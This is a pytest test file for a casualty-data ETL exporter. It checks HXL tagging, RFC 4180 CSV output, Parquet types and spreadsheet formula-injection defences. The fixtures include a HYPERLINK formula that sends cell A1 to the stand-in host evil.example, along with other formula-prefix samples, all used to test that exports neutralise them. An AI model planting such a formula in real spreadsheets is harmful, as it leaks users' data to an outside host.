"""Exports: HXL CSV read back with libhxl, spreadsheet-injection safety, RFC 4180, Parquet, dictionary."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime
from pathlib import Path

import hxl
import polars as pl
import pytest

from etl.errors import UsageError
from etl.export import FORMULA_PREFIXES, MODELS, dictionary_markdown, dictionary_rows, export, neutralise
from etl.reporting import report
from test_sql import file_warehouse

REPO = Path(__file__).resolve().parents[1]
HYPERLINK = '=HYPERLINK("http://evil.example/?q="&A1,"click")'

GIVEN = {
    "documents": [
        {"doc_id": "rt", "source": "Reuters", "title": HYPERLINK, "published_at": datetime(2024, 5, 1, 9)},
        {"doc_id": "af", "source": "@AFP", "title": "Gao: \"heavy\" shelling, 12 dead", "url": "-1+1",
         "published_at": datetime(2024, 5, 1, 11)},
        {"doc_id": "lo", "source": "+Radio", "title": "\tTab title", "url": "\rcr",
         "published_at": datetime(2024, 5, 2, 8)},
        {"doc_id": "ar", "source": "Al Jazeera عربي", "title": "Mopti — ضربة", "published_at": datetime(2024, 5, 2, 9)},
    ],
    "facts": [
        {"fact_id": "rt#1", "best": 12, "low": 12, "high": 12, "place": "Gao", "country": "ML", "admin1": "GA",
         "lat": 16.2667, "lon": -0.05, "event_date": date(2024, 4, 30), "cause": "shelling",
         "victim_category": "civilian", "quote": "=1+1 killed"},
        {"fact_id": "rt#2", "best": 5, "low": 5, "high": 5, "victim_category": "child", "parent_fact_id": "rt#1"},
        {"fact_id": "af#1", "best": 15, "low": 15, "high": 18, "qualifier": "range", "place": "Gao",
         "event_date": date(2024, 4, 30), "cause": "shelling"},
        {"fact_id": "af#2", "outcome": "injured", "best": 20, "low": 20, "place": "Gao",
         "event_date": date(2024, 4, 30), "span_start": 40, "span_end": 60, "qualifier": "at_least"},
        {"fact_id": "lo#1", "best": 2, "low": 2, "high": 2, "place": "Mopti", "event_date": date(2024, 5, 1),
         "actor": "-gunmen"},
        {"fact_id": "ar#1", "best": 3, "low": 3, "high": 3, "place": "Mopti", "event_date": date(2024, 5, 2)},
    ],
}


# the same reports without leading tab / carriage return (libhxl's validator flags such whitespace)
CLEAN = {**GIVEN, "documents": [{**d, "title": d["title"].strip(), "url": d.get("url", "").strip() or None}
                                for d in GIVEN["documents"]]}


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory):
    return file_warehouse(tmp_path_factory.mktemp("wh") / "w.duckdb", GIVEN)


@pytest.fixture(scope="module")
def clean_warehouse(tmp_path_factory):
    return file_warehouse(tmp_path_factory.mktemp("wh") / "clean.duckdb", CLEAN)


def read_hxl(path):
    """The rows and column tags of an HXL file, read with libhxl (file closed afterwards)."""
    with hxl.data(str(path), hxl.InputOptions(allow_local=True)) as source:
        return [c.display_tag for c in source.columns], list(source)


def hxl_valid(path, schema=None, problems=None) -> bool:
    with hxl.data(str(path), hxl.InputOptions(allow_local=True)) as source:
        if schema is None:
            return source.validate(callback=problems.append)
        return schema.validate(source)


def report_killed(warehouse, unit):
    rows = list(csv.DictReader(io.StringIO(report(warehouse, by="outcome", fmt="csv", unit=unit))))
    return int(next(r["best"] for r in rows if r["outcome"] == "killed"))


@pytest.mark.parametrize("unit", ["fact", "incident"])
def test_hxl_export_parses_in_libhxl_and_its_killed_total_matches_the_report(clean_warehouse, tmp_path, unit):
    warehouse = clean_warehouse
    out = tmp_path / f"{unit}.csv"
    n = export(warehouse, out, hxl=True, unit=unit)
    tags, rows = read_hxl(out)
    assert tags == [r["hxl"] for r in dictionary_rows(unit)]
    for tag in ("#date+occurred", "#loc+name", "#geo+lat", "#geo+lon", "#affected+killed", "#affected+killed+min",
                "#affected+killed+max", "#affected+injured", "#affected+killed+children", "#cause+type",
                "#group+name+first", "#meta+source", "#meta+url", "#description", "#adm1+code"):
        assert tag in tags, tag
    assert len(rows) == n
    problems = []
    assert hxl_valid(out, problems=problems) is True, [(p.message, p.value) for p in problems]
    # typed rules: every figure a number, every date a date, coordinates numbers, ids always present
    rules = [["#valid_tag", "#valid_datatype", "#valid_required"], ["#affected", "number", ""],
             ["#date", "date", ""], ["#geo", "number", ""], ["#event+id", "", "true"], ["#meta+outcome", "", "true"]]
    schema = hxl.schema(rules, callback=problems.append)
    assert hxl_valid(out, schema) is True, [(p.message, p.value) for p in problems]
    killed = sum(int(r.get("#affected+killed")) for r in rows if r.get("#affected+killed"))
    assert killed == report_killed(warehouse, unit)
    assert killed == (12 + 15 + 2 + 3 if unit == "fact" else 12 + 2 + 3)


def test_incident_export_rows_are_ranges_with_provenance(warehouse, tmp_path):
    out = tmp_path / "inc.csv"
    export(warehouse, out, hxl=True, unit="incident", filters={"place": "gao", "outcome": "killed"})
    [row] = read_hxl(out)[1]
    assert (row.get("#affected+killed"), row.get("#affected+killed+min"), row.get("#affected+killed+max")) == \
        ("12", "12", "18")
    assert row.get("#affected+killed+children") == "5"
    assert row.get("#meta+grade") == "corroborated" and row.get("#meta+disputed") == "true"
    assert row.get("#meta+source") == "'@AFP | Reuters"
    assert row.get("#description") == "'=1+1 killed | quote of af#1"


def test_formula_cells_are_neutralised(warehouse, tmp_path):
    out = tmp_path / "facts.csv"
    export(warehouse, out, unit="fact")
    with out.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    by_id = {r["fact_id"]: r for r in rows}
    assert by_id["rt#1"]["title"] == "'" + HYPERLINK
    assert by_id["rt#1"]["quote"] == "'=1+1 killed"
    assert by_id["af#1"]["source"] == "'@AFP" and by_id["af#1"]["url"] == "'-1+1"
    assert by_id["lo#1"]["source"] == "'+Radio" and by_id["lo#1"]["title"] == "'\tTab title"
    assert by_id["lo#1"]["url"] == "'\rcr" and by_id["lo#1"]["actor"] == "'-gunmen"
    # no text cell anywhere starts with a character a spreadsheet evaluates
    text_columns = [n for n, c in MODELS["fact"].to_schema().columns.items() if str(c.dtype) == "String"]
    for row in rows:
        for name in text_columns:
            assert not row[name].startswith(FORMULA_PREFIXES), (name, row[name])
    # numbers are numbers: a negative longitude is not a formula and is left alone
    assert by_id["rt#1"]["lon"] == "-0.05"


@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-1", "@cmd", "\tx", "\rx"])
def test_neutralise_prefixes_every_dangerous_start(text):
    assert neutralise(text) == "'" + text


def test_csv_is_utf8_rfc4180_with_iso_dates(warehouse, tmp_path):
    out = tmp_path / "facts.csv"
    export(warehouse, out, unit="fact", filters={"date_from": "2024-04-30", "date_to": "2024-05-02"})
    raw = out.read_bytes()
    text = raw.decode("utf-8")                                 # valid UTF-8, no BOM
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert "Al Jazeera عربي" in text and "Mopti — ضربة" in text
    assert text.count("\r\n") == 1 + 5                         # CRLF after the header and each record
    assert '"Gao: ""heavy"" shelling, 12 dead"' in text        # quotes doubled, field quoted
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["event_date"] for r in rows} == {"2024-04-30", "2024-05-01", "2024-05-02"}
    assert {r["published_date"] for r in rows} == {"2024-05-01", "2024-05-02"}


def test_export_filters_match_the_report_filters(warehouse, tmp_path):
    out = tmp_path / "mopti.csv"
    n = export(warehouse, out, unit="incident", filters={"place": "MOPTI", "date_to": "2024-05-01"})
    assert n == 1
    [row] = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert (row["place"], row["killed"], row["grade"]) == ("Mopti", "2", "single_source")


@pytest.mark.parametrize("unit", ["fact", "incident"])
def test_parquet_export_has_the_model_columns_and_types(warehouse, tmp_path, unit):
    out = tmp_path / f"{unit}.parquet"
    n = export(warehouse, out, fmt="parquet", unit=unit)
    frame = pl.read_parquet(out)
    assert frame.height == n == (5 if unit == "fact" else 4)
    assert frame.columns == list(MODELS[unit].to_schema().columns)
    assert frame.schema["event_date"] == pl.Date and frame.schema["killed"] == pl.Int64
    assert frame["killed"].sum() == report_killed(warehouse, unit)


def test_dictionary_lists_every_column_with_type_tag_and_description(tmp_path):
    out = tmp_path / "dictionary.csv"
    n = export("unused.duckdb", out, dictionary=True, unit="fact")
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert n == len(rows) == len(MODELS["fact"].to_schema().columns)
    assert [r["column"] for r in rows] == list(MODELS["fact"].to_schema().columns)
    assert all(r["type"] and r["hxl"].startswith("#") and r["description"] for r in rows)
    killed = next(r for r in rows if r["column"] == "killed")
    assert (killed["type"], killed["hxl"]) == ("Int64", "#affected+killed")


def test_dictionary_follows_the_warehouse_contract():
    schemas = pytest.importorskip("schemas")
    facts = schemas.FactModel.to_schema().columns
    ours = {r["column"]: r for r in dictionary_rows("fact")}
    for name in ("place", "admin1", "country", "lat", "lon", "cause", "actor", "quote", "event_date"):
        assert ours[name]["description"] == facts[name].description
        assert ours[name]["hxl"] == facts[name].metadata["hxl"]


def test_readme_shows_the_generated_data_dictionary():
    readme = (REPO / "README.md").read_text(encoding="utf-8")
    assert dictionary_markdown("fact") in readme
    assert dictionary_markdown("incident") in readme


def test_missing_warehouse_is_a_usage_error_naming_the_run_command(tmp_path):
    with pytest.raises(UsageError, match="casualty-etl run"):
        export(tmp_path / "nope.duckdb", tmp_path / "out.csv")


def test_hxl_row_is_for_csv_only(warehouse, tmp_path):
    with pytest.raises(UsageError, match="CSV only"):
        export(warehouse, tmp_path / "x.parquet", fmt="parquet", hxl=True)
